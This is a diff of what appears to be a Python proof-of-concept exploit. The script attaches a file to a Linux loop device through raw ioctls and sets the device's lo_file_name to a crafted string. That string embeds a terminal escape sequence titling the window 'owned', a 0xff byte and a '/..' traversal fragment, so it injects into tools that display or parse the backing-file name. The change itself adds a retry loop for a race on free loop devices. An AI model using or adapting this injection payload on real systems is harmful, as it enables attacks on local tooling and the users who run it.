@@ -72,10 +72,17 @@ h = 0xcbf29ce484222325
 for b in sys.argv[1].encode():
     h = ((h ^ b) * 0x100000001b3) & 0xffffffffffffffff
 name = b"libvbd %08x " % (h & 0xffffffff) + b"3-1\x1b]0;owned\x07\xff/.."
-ctl = os.open("/dev/loop-control", os.O_RDWR)
-dev = "/dev/loop%d" % fcntl.ioctl(ctl, 0x4C82)            # LOOP_CTL_GET_FREE
-fd, f = os.open(dev, os.O_RDWR), os.open(sys.argv[2], os.O_RDWR)
-fcntl.ioctl(fd, 0x4C00, f)                                  # LOOP_SET_FD
+ctl, f = os.open("/dev/loop-control", os.O_RDWR), os.open(sys.argv[2], os.O_RDWR)
+for attempt in range(50):           # another process may take the free one first
+    dev = "/dev/loop%d" % fcntl.ioctl(ctl, 0x4C82)        # LOOP_CTL_GET_FREE
+    fd = os.open(dev, os.O_RDWR)
+    try:
+        fcntl.ioctl(fd, 0x4C00, f)                          # LOOP_SET_FD
+        break
+    except OSError as e:
+        os.close(fd)
+        if e.errno != 16 or attempt == 49:                  # EBUSY
+            raise
 info = bytearray(232)                                       # struct loop_info64
 info[56:56 + len(name)] = name                              # lo_file_name
 fcntl.ioctl(fd, 0x4C04, bytes(info))                        # LOOP_SET_STATUS64
